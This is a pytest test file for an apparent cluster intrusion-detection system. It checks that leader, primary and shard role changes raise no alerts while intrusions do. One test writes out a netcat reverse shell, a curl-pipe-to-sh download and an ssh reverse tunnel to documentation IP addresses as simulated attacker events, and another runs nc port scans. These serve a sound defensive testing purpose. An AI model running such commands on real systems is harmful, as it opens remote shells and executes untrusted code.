"""One replica leads, is primary or holds a shard: that the role moves is no alert, and that it may move hides nobody."""

import pytest
from detection.cluster import BEGIN, SECOND, Cluster, Replica, alerts, analyse
from detection.roles import API, DAY, HOUR, TALLY, Leader, again, every, lead, led, live, service, shell
from peerwatch.columns import ProcessFlag

from collector.analysis import Analysis, judging
from collector.analysis.roles import Turn
from collector.records import Incident, Severity

JOBS, CALLS, SCRIPTS = Leader(), Leader(api=True), Leader(api=True, scripts=True)
TOOLS = Leader(api=True, scripts=True, tools=True)
MOVES = (6 * HOUR, 11 * HOUR, 16 * HOUR)
END = 18 * HOUR
ATTACK = 17 * HOUR


def told(cluster: Cluster, since: float = 0) -> list[Incident]:
    found = [each for each in alerts(analyse(cluster)) if each.time >= BEGIN + since * SECOND]
    return sorted(found, key=lambda each: each.time)


def reasons(incidents: list[Incident]) -> list[str]:
    return [f"{each.severity.name} {each.reason}" for each in incidents]


@pytest.mark.parametrize("how", ["lease", "dies", "born"])
def test_the_leader_of_three_changes(cluster: Cluster, how: str) -> None:
    led(cluster, 3, SCRIPTS, MOVES, END, how=how)

    assert reasons(told(cluster)) == []


def test_the_leader_of_fifty_is_told_twice_at_most(cluster: Cluster) -> None:
    # At the beginning, and of its successor, since what was told supports nothing; all else that it does moves silently.
    led(cluster, 50, SCRIPTS, MOVES, END, how="dies", pause=600)

    found = told(cluster)

    assert len(found) <= 2
    assert [each for each in found if each.time > BEGIN + (MOVES[1] - 1) * SECOND] == []


def test_the_leader_changes_where_an_autoscaler_brings_many_that_never_lead(cluster: Cluster) -> None:
    led(cluster, 5, SCRIPTS, MOVES, END, guests=6)

    assert reasons(told(cluster)) == []


def test_without_turns_each_of_them_was_told(cluster: Cluster, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judging, "turn", lambda *_: Turn.GOING)
    led(cluster, 5, SCRIPTS, MOVES, END, guests=6)

    assert len(told(cluster)) >= 2


def test_tools_of_a_leader_that_are_hardly_ever_normal_are_told_of_two_leaders(cluster: Cluster) -> None:
    leaders = led(cluster, 3, TOOLS, MOVES, END, guests=6)

    found = told(cluster)

    assert {replica.pod for each in found for replica in each.replicas} == {leaders[0].name, leaders[1].name}


def test_the_rates_of_a_new_leader_are_no_deviation(cluster: Cluster) -> None:
    leaders, move, end = led(cluster, 3, JOBS, (HOUR,), 3 * HOUR), HOUR, 3 * HOUR
    for begin, until, leader in ((10, move, leaders[0]), (move + 16, end, leaders[1])):
        for at in every(0.7, begin, until):
            cluster.connect(at, leader, TALLY, ("10.4.2.9", 5432), peer=service("ledger", "StatefulSet"))

    assert reasons(told(cluster)) == []


def test_what_only_a_new_leader_does_is_told_once(cluster: Cluster) -> None:
    leaders = led(cluster, 3, JOBS, MOVES, END)
    for leader, begin in zip(leaders[1:], MOVES, strict=True):
        for number, job in enumerate(("reindex", "settle", "notify")):
            cluster.exec(begin + 20 + 40 * number, leader, f"/opt/tally/{job}", parent=TALLY)

    assert len(told(cluster)) <= 1


def test_primary_and_replicas_of_a_set_change_places(cluster: Cluster) -> None:
    pods, end = cluster.pods(3), 30 * HOUR
    keeper, engine = "/opt/basin/keeper", "/opt/basin/engine"
    followed = service("cart", "StatefulSet")
    since, lives = 0.0, [(pod, 0.0) for pod in pods]
    for number, move in enumerate((9 * HOUR, 20 * HOUR, end)):
        old, new = pods[number % 3], pods[(number + 1) % 3]
        for at in every(300, since + 20, move):
            segment = f"{int(at):024X}"
            text = f"/opt/basin/ship {segment} | zstd -q > /archive/{segment}.zst"
            shell(cluster, at, old, text, ("/opt/basin/ship", segment), ("zstd", "-q"), parent=engine)
        for pod in pods:
            for at in every(120, since + 25, move) if pod is not old else ():
                cluster.connect(at, pod, engine, ("10.4.1.1", 6000), peer=followed)
        if move < end:
            args = ("basinctl", "promote", "--timeline", str(number + 2))
            cluster.exec(move + 8, new, "/opt/basin/basinctl", parent=keeper, args=args)
            cluster.exec(move + 9, new, "/usr/bin/dash", parent=keeper, args=("sh", "/opt/basin/on-role.sh", "primary"))
            lives = [(pod, until or (move if pod is old else 0.0)) for pod, until in lives]
            pods[number % 3] = again(old, number, move + 20)
            cluster.exec(move + 45, pods[number % 3], "/opt/basin/rewind", parent=keeper, args=("rewind", "--from", new.name))
            lives.append((pods[number % 3], 0.0))
        since = move
    for pod, until in lives:
        begin = 0.0 if until or pod.subject.pod.created_at == BEGIN else (pod.subject.pod.created_at - BEGIN) / SECOND
        cluster.exec(begin + 0.1, pod, keeper, parent="")
        cluster.exec(begin + 0.5, pod, engine, parent=keeper, args=("engine", "--data", "/data"))
        for at in every(60, begin + 2, until or end):
            cluster.exec(at, pod, "/opt/basin/ready", parent="", args=("ready",), flags=(ProcessFlag.INJECTED,))

    assert reasons(told(cluster)) == []


def hold_shard(cluster: Cluster, pod: Replica, shard: int, begin: float, end: float) -> None:
    name = "abcdefghijklmnop"[shard]
    cluster.exec(begin + 0.3, pod, "/opt/vault/shardd", parent=TALLY, args=("shardd", f"--shard={shard}", f"--range={name}"))
    for at in every(60, begin + 1, end):
        cluster.connect(at, pod, "/opt/vault/shardd", (f"10.4.{shard}.2", 7000), peer=service(f"vault-{name}", "StatefulSet"))
    for at in every(HOUR, begin + 600, end):
        args = ("compact", f"/data/shard-{shard}", "--level", str(int(at) % 4))
        cluster.exec(at, pod, "/opt/vault/compact", parent="/opt/vault/shardd", args=args)


def test_shards_have_arguments_and_destinations_of_their_own_and_move(cluster: Cluster) -> None:
    pods, end = cluster.pods(8), 10 * HOUR
    live(cluster, [pod for pod in pods if pod is not pods[2]], 0, end)
    live(cluster, pods[2:3], 0, 6 * HOUR)
    fresh = again(pods[2], 1, 6 * HOUR)
    live(cluster, [fresh], 6 * HOUR + 20, end)
    for shard, pod in enumerate(pods[1:], start=1):
        hold_shard(cluster, pod, shard, 0, 6 * HOUR if shard == 2 else end)
    hold_shard(cluster, fresh, 2, 6 * HOUR + 22, end)
    hold_shard(cluster, pods[0], 0, 0, 3 * HOUR)
    hold_shard(cluster, pods[3], 0, 3 * HOUR + 30, end)

    assert reasons(told(cluster)) == []


def test_each_zone_has_a_store_and_helpers_of_its_own(cluster: Cluster) -> None:
    pods, end = cluster.pods(4), 12 * HOUR
    live(cluster, pods, 0, end)
    for number, pod in enumerate(pods):
        zone = "north" if number < 2 else "south"
        for at in every(120, 5 + number, end):
            cluster.connect(at, pod, TALLY, (f"10.{5 + number // 2}.1.1", 5432), peer=service(f"store-{zone}", "StatefulSet"))
            cluster.exec(at + 1, pod, f"/opt/tally/zone-{zone}", parent=TALLY, args=(f"zone-{zone}", "--sync"))
        for at in every(1800, 6 * HOUR + 7 * number, end) if zone == "north" else ():
            cluster.exec(at, pod, "/opt/tally/levy", parent=TALLY, args=("levy", "--north"))

    assert reasons(told(cluster)) == []


@pytest.mark.parametrize("size", [3, 50])
def test_a_backup_at_night_on_another_replica_each_time_is_told_of_two_nights(cluster: Cluster, size: int) -> None:
    pods, nights = cluster.pods(size), 5
    live(cluster, pods, 0, nights * DAY, pause=1800)
    for night in range(nights):
        day = f"2026-11-{10 + night}"
        pod = pods[7 * night % size]
        shell(cluster, night * DAY + 2 * HOUR, pod, f"pg_dump app | gzip > /archive/{day}.gz", ("pg_dump", "app"), ("gzip",))

    found = told(cluster)

    assert len(found) <= 2
    assert [each for each in found if each.time > BEGIN + 2 * DAY * SECOND] == []
    assert {each.severity for each in found} <= {Severity.LOW, Severity.MEDIUM}


def crowded(cluster: Cluster) -> tuple[Replica, Replica]:
    """Return a leader that was elected long ago, its calls known, and one that follows."""
    leaders = led(cluster, 5, CALLS, (), END, guests=6)
    return leaders[0], cluster.pods(5)[3]


def test_one_that_follows_calls_whom_the_leader_goes_on_to_call(cluster: Cluster) -> None:
    _, follower = crowded(cluster)
    for at in every(3, ATTACK, ATTACK + 60):
        cluster.connect(at, follower, TALLY, ("10.96.0.1", 443), peer=API)

    (alert,) = told(cluster, since=ATTACK)

    assert [each.pod for each in alert.replicas] == [follower.name]
    assert alert.time <= BEGIN + (ATTACK + 31) * SECOND


def test_one_that_follows_does_all_that_the_leader_goes_on_to_do(cluster: Cluster) -> None:
    _, follower = crowded(cluster)
    lead(cluster, follower, CALLS, ATTACK, ATTACK + 1800)

    (alert,) = told(cluster, since=ATTACK)

    assert [each.pod for each in alert.replicas] == [follower.name]


def test_one_call_of_a_follower_after_the_leader_fell_silent_is_no_role(cluster: Cluster) -> None:
    _, follower = crowded(cluster)
    cluster.events = [each for each in cluster.events if not (each[0] > ATTACK - 3600 and _calls_api(each))]
    cluster.connect(ATTACK, follower, TALLY, ("10.96.0.1", 443), peer=API)

    assert [[each.pod for each in alert.replicas] for alert in told(cluster, since=ATTACK)] == [[follower.name]]


def _calls_api(event: tuple[float, int, tuple[object, ...]]) -> bool:
    return event[2][0] == "connect" and event[2][-1] == API


@pytest.mark.parametrize("follows", [False, True])
def test_an_intruder_is_told_whichever_role_the_replica_has(cluster: Cluster, *, follows: bool) -> None:
    leaders = led(cluster, 5, TOOLS, MOVES[:2], END)
    victim = cluster.pods(5)[4] if follows else leaders[-1]
    cluster.exec(ATTACK, victim, "/usr/bin/nc", parent=TALLY, args=("nc", "-e", "/bin/sh", "203.0.113.5", "4444"))
    shell(cluster, ATTACK + 600, victim, "curl -s http://203.0.113.9/x | sh", ("curl", "-s", "http://203.0.113.9/x"), ("sh",))
    words = ("ssh", "-R", "9000:localhost:22", "root@203.0.113.5")
    cluster.exec(ATTACK + 1200, victim, "/usr/bin/ssh", parent=TALLY, args=words)  # the leader's own tool

    found = told(cluster, since=ATTACK)

    assert len(found) >= 3
    assert {replica.pod for each in found for replica in each.replicas} == {victim.name}


def test_who_was_told_of_supports_no_successor(cluster: Cluster) -> None:
    # An intruder goes from the leader that is lost to the next: that he comes along with the role teaches nothing.
    leaders = led(cluster, 5, CALLS, MOVES[:1], END, how="dies", guests=6)
    for leader, begin, end in ((leaders[0], 3 * HOUR, MOVES[0]), (leaders[1], MOVES[0] + 20, END)):
        for at in every(300, begin, end):
            cluster.exec(at, leader, "/usr/bin/nc", parent=TALLY, args=("nc", "-z", "10.9.9.9", "22"))

    found = told(cluster)

    assert {replica.pod for each in found for replica in each.replicas} == {each.name for each in leaders}


def test_turns_are_the_same_however_the_events_are_cut(cluster: Cluster) -> None:
    led(cluster, 3, TOOLS, MOVES[:1], MOVES[0] + HOUR, guests=6)
    whole, parts = Analysis(), Analysis()
    expected = whole.observe(cluster.table()) + whole.finish()

    found = [
        each for begin in range(0, len(cluster.events), 997) for each in parts.observe(cluster.table(begin, begin + 997))
    ] + parts.finish()

    assert found == expected
    assert expected
